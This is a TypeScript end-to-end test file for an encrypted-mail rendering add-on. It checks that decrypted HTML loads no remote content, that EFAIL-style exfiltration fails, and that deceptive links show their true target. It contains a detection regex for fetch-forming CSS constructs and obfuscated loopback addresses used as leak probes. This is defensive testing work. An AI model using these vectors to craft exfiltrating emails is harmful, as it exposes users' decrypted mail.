    return tb.chrome(`Services.prefs.setBoolPref("mailnews.message_display.disable_remote_image", arguments[0]);`, [blocked]);
  }

  function remoteContentBarShown(): Promise<boolean | null> {
    return tb.chrome<boolean | null>(
      `const win = Services.wm.getMostRecentWindow("mail:3pane");
       const aboutMessage = win.gTabmail.currentAbout3Pane.messageBrowser.contentWindow;
       const bar = aboutMessage.gMessageNotificationBar;
       return bar && typeof bar.isShowingRemoteContentNotification === "function" ? !!bar.isShowingRemoteContentNotification() : null;`,
    );
  }

  const needles = () => [`127.0.0.1:${listener.port}`, `2130706433:${listener.port}`, `0x7f.1:${listener.port}`, `:${listener.port}/`];
  const describeHits = (hs: Hit[]) => hs.map((h) => `${h.method} ${h.url} (referer ${String(h.headers['referer'] ?? '-')}, accept ${String(h.headers['accept'] ?? '-')})`);

  interface Shown {
    r: DisplayReport;
    first: DisplayReport | undefined;
    ms: number;
    insp: Inspection;
    hitsAfterRender: Hit[];
    hitsAfterClicks: Hit[];
    clicks: { clicked: number; linkTargets: string[]; url: string };
    bare: number;
  }

  /** Select, await Unseal's rendered report, inspect, stay silent 2.5 s, click everything, stay silent 2 s. */
  async function showAndAttack(m: Msg, shot: string, markers: string[]): Promise<Shown> {
    const before = listener.hits.length;
    const bareBefore = listener.bareConnections();
    const sel = await tb.selectMessage(m.subject);
    const r = await tb.waitForRendered(m.messageId, sel.selectedAt, 90_000);
    const first = (await tb.reportsFor(m.messageId, sel.selectedAt)).find((x) => x.rendered === undefined);
    const insp = await inMessagePane<Inspection>(INSPECT, { needles: needles(), markers });
    await sleep(2_500);
    const hitsAfterRender = listener.hits.slice(before);
    const clicks = await inMessagePane<{ clicked: number; linkTargets: string[]; url: string }>(CLICK_ALL);
    await sleep(2_000);
    const hitsAfterClicks = listener.hits.slice(before + hitsAfterRender.length);
    await tb.screenshot(shot);
    return { r, first, ms: r.at - sel.selectedAt, insp, hitsAfterRender, hitsAfterClicks, clicks, bare: listener.bareConnections() - bareBefore };
  }

  /**
   * CSS text that could form a URL fetch (an independent check, not src/display/sanitize.ts's own).
   * CSS that merely names the listener without such a construct (e.g. a custom property split
   * `--p:url;--q:(http://…)` recombined through var()) is recorded; the network decides.
   */
  const URL_FORMING_CSS = /url\s*\(|image-set|image\s*\(|cross-fade|element\s*\(|src\s*\(|@import|\\/i;
  const urlFormingCss = (css: string) => URL_FORMING_CSS.test(css.replace(/\/\*[\s\S]*?(\*\/|$)/g, ''));

  /** What must hold for every Unseal-rendered vector message; returns the problems found (empty = inert). */
  function inertProblems(label: string, m: Msg, s: Shown, observations: string[]): string[] {
    const p: string[] = [];
    if (s.r.rendered !== 'clean') p.push(`${label}: rendered ${String(s.r.rendered)} (${String(s.r.renderFailure ?? s.r.renderedReason ?? '')}), expected clean`);
    if (!((s.r.renderedTextLength ?? 0) > 0)) p.push(`${label}: rendered text length ${String(s.r.renderedTextLength)}`);
    if (s.r.thunderbirdContentVisible) p.push(`${label}: Thunderbird's own content visible next to Unseal's`);
    if (m.html && !s.insp.htmlBody) p.push(`${label}: no sanitized HTML body (fallback to text?)`);
    if (!m.html && !s.insp.textBody) p.push(`${label}: no text body`);
    if (!s.insp.bodyText.includes(m.marker)) p.push(`${label}: decrypted marker ${m.marker} not shown`);
    if (s.insp.tbNodes.length > 0) p.push(`${label}: Thunderbird nodes left in the body: ${s.insp.tbNodes.join(',')}`);
    // Text that names the listener is harmless; an attribute that can load is not.
    const harmless = new Set(['title', 'alt', 'data-unseal-href']);
    for (const a of s.insp.attrs) {
      if (harmless.has(a.name)) continue;
      if (a.name === 'style' && !urlFormingCss(a.value)) observations.push(`${label}: style attribute naming the listener kept (no url-forming CSS; nothing fetched unless listed as a request): <${a.tag} style="${a.value}">`);
      else p.push(`${label}: attribute ${a.where} <${a.tag} ${a.name}="${a.value}">`);
    }
    // Unseal's own link marker only on anchors, and never the one the message forged.
    for (const a of s.insp.attrs) if (a.name === 'data-unseal-href' && (a.tag !== 'a' || a.value.includes('own-marker-attr'))) p.push(`${label}: forged link marker kept: <${a.tag} ${a.name}="${a.value}">`);
    for (const st of s.insp.styles) {
      if (urlFormingCss(st.text)) p.push(`${label}: <style> naming the listener survived in ${st.where}: ${st.text}`);
      else observations.push(`${label}: <style> naming the listener kept (no url-forming CSS; nothing fetched unless listed as a request): ${st.text}`);
    }
    for (const l of s.insp.loaders) if (l.tag !== 'img' || (l.src !== null && !/^data:image\/(png|gif|jpe?g|webp|bmp);base64,/i.test(l.src))) p.push(`${label}: loading element <${l.tag} ${l.attrs}> src=${String(l.src)}`);
    for (const h of [...s.hitsAfterRender, ...s.hitsAfterClicks]) p.push(`${label}: REQUEST ${describeHits([h]).join('')}`);
    if (s.bare > 0) p.push(`${label}: ${s.bare} connection(s) to the listener without a request (preconnect?)`);
    for (const t of s.clicks.linkTargets) if (t.includes('own-marker-attr')) p.push(`${label}: a link target the message forged through Unseal's marker attribute: ${t}`);
    if (s.clicks.url !== s.insp.url) p.push(`${label}: the message pane navigated to ${s.clicks.url}`);
    const remote = s.insp.resources.filter((u) => /^https?:/i.test(u));
    if (remote.length > 0) p.push(`${label}: resource timing lists ${remote.join(', ')}`);
    return p;
  }

  it('no-remote-content: every loading vector in decrypted HTML stays silent, with and without Thunderbird\'s own blocking', async () => {
    await scenario('no-remote-content', async (ctx) => {
      const problems: string[] = [];
      const observations: string[] = [];
      const perMessage: Record<string, unknown> = {};
      const t0 = Date.now();
      const run = async (phase: 'tb-blocking' | 'tb-allowing') => {
        for (const m of vectorMsgs) {
          const label = `${phase}/${m.name}`;
          const s = await showAndAttack(m, join(RESULTS_DIR, `no-remote-content-${phase}-${m.name}.png`), [m.marker]);
          problems.push(...inertProblems(label, m, s, observations));
          perMessage[label] = { rendered: s.r.rendered, ms: s.ms, textLength: s.r.renderedTextLength, insp: { ...s.insp, gateText: undefined, docText: undefined }, clicks: s.clicks, hits: describeHits([...s.hitsAfterRender, ...s.hitsAfterClicks]) };
        }
      };

      // Phase 1: Thunderbird's defaults (remote content blocked by Thunderbird too).
      await run('tb-blocking');
      // The plain HTML message: Thunderbird's own remote-content blocking, recorded only.
      {
        const before = listener.hits.length;
        const sel = await tb.selectMessage(plainHtml.subject);
        const rep = await tb.waitForReport(plainHtml.messageId, sel.selectedAt, 30_000);
        await sleep(2_500);
        ctx.metrics['plain_default_state'] = rep.state;
        ctx.metrics['plain_default_requests'] = listener.hits.length - before;
        ctx.metrics['plain_default_remote_bar'] = await remoteContentBarShown();
        await tb.screenshot(join(RESULTS_DIR, 'no-remote-content-plain-default.png'));
      }

      // Phase 2: remote content allowed in Thunderbird (as for a trusted sender): the control proves
      // the listener is reachable from the message pane, so silence below is Unseal's doing.
      await setRemoteContentBlocked(false);
      try {
        const before = listener.hits.length;
        const sel = await tb.selectMessage(plainHtml.subject);
        const rep = await tb.waitForReport(plainHtml.messageId, sel.selectedAt, 30_000);
        expect(rep.state).toBe('plain');
        const got = await waitFor(() => listener.hits.slice(before).filter((h) => h.url.startsWith('/plain/')).length > 0, 15_000, 'plain control request').catch(() => false);
        await sleep(1_500);
        const control = listener.hits.slice(before);
        ctx.metrics['plain_allowed_requests'] = control.length;
        evidence['plain_control'] = describeHits(control);
        await tb.screenshot(join(RESULTS_DIR, 'no-remote-content-plain-allowed.png'));
        expect(got, 'positive control: with remote content allowed the plain HTML message reaches the listener').toBe(true);
        expect(control.every((h) => h.url.startsWith('/plain/'))).toBe(true);

        await run('tb-allowing');
      } finally {
        await setRemoteContentBlocked(true);
      }
      ctx.ms = Date.now() - t0;
      ctx.screenshot = join(RESULTS_DIR, 'no-remote-content-tb-allowing-images.png');
      ctx.metrics['messages'] = vectorMsgs.length;
      ctx.metrics['vectors'] = vectorMsgs.reduce((n, m) => n + m.vectors.length, 0);
      ctx.metrics['vector_requests'] = listener.hits.filter((h) => h.url.startsWith('/v/')).length;
      ctx.metrics['problems'] = problems.length;
      ctx.metrics['observations'] = observations.length;
      evidence['no_remote_content'] = { problems, observations, perMessage, vectors: Object.fromEntries(vectorMsgs.map((m) => [m.name, m.vectors])) };
      expect(problems).toEqual([]);
    });
  }, 900_000);

  it('efail-direct-exfil: unencrypted parts around the ciphertext are never rendered with the plaintext, nothing is fetched', async () => {
    await scenario('efail-direct-exfil', async (ctx) => {
      const problems: string[] = [];
      const observations: string[] = [];
      const per: Record<string, unknown> = {};
      const t0 = Date.now();
      for (const phase of ['tb-blocking', 'tb-allowing'] as const) {
        await setRemoteContentBlocked(phase === 'tb-blocking');
        try {
          for (const m of efailMsgs) {
            const label = `${phase}/${m.name}`;
            const s = await showAndAttack(m, join(RESULTS_DIR, `efail-direct-exfil-${phase}-${m.name}.png`), [m.secret, m.unprotected]);
            const all = [...s.hitsAfterRender, ...s.hitsAfterClicks];
            per[label] = { first: s.first && { state: s.first.state, reason: s.first.reason, decidedBy: s.first.decidedBy }, rendered: s.r.rendered, textLength: s.r.renderedTextLength, tbVisible: s.r.thunderbirdContentVisible, insp: s.insp, clicks: s.clicks, hits: describeHits(all) };
            if (s.r.rendered !== 'clean') problems.push(`${label}: rendered ${String(s.r.rendered)}, expected clean`);
            if (!((s.r.renderedTextLength ?? 0) > 0)) problems.push(`${label}: no rendered text`);
            if (!s.insp.bodyText.includes(m.secret)) problems.push(`${label}: decrypted text not shown`);
            // Never mixed: the attacker's unencrypted HTML is not in Unseal's rendering, nor visible beside it.
            if (s.insp.gateText.includes(m.unprotected)) problems.push(`${label}: the unencrypted part is rendered in Unseal's view with the plaintext`);
            if (s.insp.docText.includes(m.unprotected) || s.insp.tbNodes.length > 0) problems.push(`${label}: Thunderbird's rendering of the unencrypted part is still in the document (${s.insp.tbNodes.join(',')})`);
            if (s.r.thunderbirdContentVisible) problems.push(`${label}: Thunderbird's own content visible`);
            if (s.insp.unprotectedNote === null) problems.push(`${label}: no "unprotected parts" note`);
            // The plaintext never inside a URL or any attribute, anywhere in the document.
            for (const a of s.insp.markerAttrs) problems.push(`${label}: marker ${a.marker} inside ${a.where} <${a.tag} ${a.name}>`);
            for (const st of s.insp.markerStyles) problems.push(`${label}: marker ${st.marker} inside a <style> in ${st.where}`);
            for (const a of s.insp.attrs) if (a.name !== 'title' && a.name !== 'alt') problems.push(`${label}: attribute naming the listener: <${a.tag} ${a.name}="${a.value}">`);
            for (const t of s.clicks.linkTargets) if (t.includes(m.secret)) problems.push(`${label}: a link target carries the plaintext: ${t}`);
            for (const h of all) {
              const text = JSON.stringify(h);
              if (text.includes(m.secret) || /launch|0451/.test(text)) problems.push(`${label}: PLAINTEXT EXFILTRATED ${describeHits([h]).join('')}`);
              else if (phase === 'tb-blocking') problems.push(`${label}: REQUEST ${describeHits([h]).join('')}`);
              else observations.push(`${label}: request without plaintext (Thunderbird's own rendering of the unencrypted part, remote content allowed): ${describeHits([h]).join('')}`);
            }
            if (s.bare > 0 && phase === 'tb-blocking') problems.push(`${label}: ${s.bare} bare connection(s)`);
          }
        } finally {
          await setRemoteContentBlocked(true);
        }
      }
      ctx.ms = Date.now() - t0;
      ctx.screenshot = join(RESULTS_DIR, 'efail-direct-exfil-tb-allowing-mixed.png');
      ctx.metrics['messages'] = efailMsgs.length;
      ctx.metrics['leak_requests'] = listener.hits.filter((h) => h.url.startsWith('/leak/')).length;
      ctx.metrics['observations'] = observations.length;
      ctx.metrics['problems'] = problems.length;
      evidence['efail'] = { problems, observations, per };
      expect(problems).toEqual([]);
    });
  }, 600_000);

  it('link-click-confirm: a real click on a link shows the true target and navigates nowhere; nothing is fetched', async () => {
    await scenario('link-click-confirm', async (ctx) => {
      const m = vectorMsgs.find((x) => x.name === 'forms-links')!;
      const target = `http://127.0.0.1:${listener.port}/v/link-real-target`;
      const before = listener.hits.length;
      const sel = await tb.selectMessage(m.subject);
      const r = await tb.waitForRendered(m.messageId, sel.selectedAt, 60_000);
      expect(r.rendered).toBe('clean');
      const paneBefore = await tb.messagePaneUri();
      const windowsBefore = await tb.chrome<number>(`let n = 0; for (const w of Services.wm.getEnumerator(null)) n++; return n;`);
      const tabsBefore = await tb.chrome<number>(`return Services.wm.getMostRecentWindow("mail:3pane").gTabmail.tabInfo.length;`);
      // A real mouse click through layout (windowUtils.sendMouseEvent) on the link whose text lies.
      const clicked = await inMessagePane<{ found: boolean; href: string | null; title: string | null; role: string | null; x: number; y: number }>(
        `(content, a) => {
           const groot = content.document.querySelector("unseal-gate").openOrClosedShadowRoot;
           const root = groot.querySelector(".body-html").openOrClosedShadowRoot;
           const link = Array.from(root.querySelectorAll("a")).find((x) => x.textContent.includes(a.text));
           if (!link) return { found: false, href: null, title: null, role: null, x: 0, y: 0 };
           link.scrollIntoView({ block: "center" });
           const rect = link.getBoundingClientRect();
           const x = rect.left + Math.min(8, rect.width / 2), y = rect.top + rect.height / 2;
           // Window.synthesizeMouseEvent (ChromeOnly; what EventUtils uses since windowUtils.sendMouseEvent went away).
           for (const type of ["mousedown", "mouseup"]) content.synthesizeMouseEvent(type, x, y, { button: 0, buttons: type === "mousedown" ? 1 : 0, clickCount: 1 }, {});
           return { found: true, href: link.getAttribute("href"), title: link.getAttribute("title"), role: link.getAttribute("role"), x, y };
         }`,
        { text: 'https://bank.example/login' },
      );
      expect(clicked.found).toBe(true);
      await sleep(500);
      const bar = await inMessagePane<{ shown: boolean; url: string; openShown: boolean; cancelShown: boolean; focused: string | null }>(
        `(content) => {
           const groot = content.document.querySelector("unseal-gate").openOrClosedShadowRoot;
           const bar = groot.querySelector(".linkbar");
           const f = groot.activeElement;
           return { shown: !bar.hidden, url: bar.querySelector(".url").textContent, openShown: !bar.querySelector("button.open").hidden,
                    cancelShown: !bar.querySelector("button.cancel").hidden, focused: f ? f.className : null };
         }`,
      );
      ctx.screenshot = await tb.screenshot(join(RESULTS_DIR, 'link-click-confirm.png'));
      await sleep(2_000);
      const paneAfter = await tb.messagePaneUri();
      const windowsAfter = await tb.chrome<number>(`let n = 0; for (const w of Services.wm.getEnumerator(null)) n++; return n;`);
      const tabsAfter = await tb.chrome<number>(`return Services.wm.getMostRecentWindow("mail:3pane").gTabmail.tabInfo.length;`);
      const hits = listener.hits.slice(before);
      // Cancel closes the bar; nothing was opened.
      const afterCancel = await inMessagePane<boolean>(
        `(content) => { const groot = content.document.querySelector("unseal-gate").openOrClosedShadowRoot; const bar = groot.querySelector(".linkbar");
           bar.querySelector("button.cancel").click(); return bar.hidden; }`,
      );

      // Two decrypted HTML parts: part one's open href must not swallow part two's text (each part is sanitized on its own).
      const sel2 = await tb.selectMessage(stitch.subject);
      const r2 = await tb.waitForRendered(stitch.messageId, sel2.selectedAt, 60_000);
      const st = await inMessagePane<Inspection>(INSPECT, { needles: needles(), markers: ['STITCH-SECRET-MARKER'] });
      await tb.screenshot(join(RESULTS_DIR, 'link-click-confirm-stitch.png'));
      ctx.metrics['stitch_rendered'] = r2.rendered ?? null;
      ctx.metrics['stitch_secret_in_link_target'] = st.markerAttrs.some((a) => a.name === 'data-unseal-href');
      expect(r2.rendered).toBe('clean');
      expect(st.markerAttrs).toEqual([]);
      expect(st.bodyText).toContain('STITCH-SECRET-MARKER');
      evidence['link_click'] = { clicked, bar, paneBefore, paneAfter, windowsBefore, windowsAfter, tabsBefore, tabsAfter, hits: describeHits(hits), afterCancel, stitch: { rendered: r2.rendered, markerAttrs: st.markerAttrs, attrs: st.attrs, bodyText: st.bodyText } };

      ctx.metrics['bar_shown'] = bar.shown;
      ctx.metrics['requests'] = hits.length;
      expect(clicked.href).toBeNull(); // inert: no href in the DOM at all
      expect(clicked.title).toBe(target); // the message's lying title replaced by the real target
      expect(clicked.role).toBe('link');
      expect(bar.shown).toBe(true);
      expect(bar.url).toBe(target); // the true target, not the link text
      expect(bar.openShown).toBe(true); // opening needs a second, deliberate click on Unseal's button
      expect(paneAfter).toBe(paneBefore);
      expect(windowsAfter).toBe(windowsBefore);
      expect(tabsAfter).toBe(tabsBefore);
      expect(describeHits(hits)).toEqual([]);
      expect(afterCancel).toBe(true);
      expect(listener.hits.slice(before).filter((h) => !h.url.startsWith('/plain/'))).toEqual([]);
    });
  }, 300_000);
});
